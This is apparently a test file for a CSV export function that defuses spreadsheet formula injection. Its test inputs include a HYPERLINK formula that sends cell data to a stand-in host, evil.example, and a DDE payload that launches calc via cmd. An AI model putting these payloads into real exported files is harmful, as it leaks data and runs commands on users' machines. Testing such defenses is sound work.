import test from 'ava';
import { neutralizeFormula } from '../../src/tabular/csv-export.ts';

test('a cell a spreadsheet would run as a formula is written as text', (t) => {
  for (const cell of ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd', "-2+3+cmd|' /C calc'!A0", '@SUM(A1)', '\tx', '\rx']) {
    t.is(neutralizeFormula(cell), `'${cell}`, JSON.stringify(cell));
  }
});

test('numbers keep their sign and ordinary text is left alone', (t) => {
  for (const cell of ['-12', '+3.5', '-1e-3', '.5', 'a=b', 'hello', '']) t.is(neutralizeFormula(cell), cell);
});
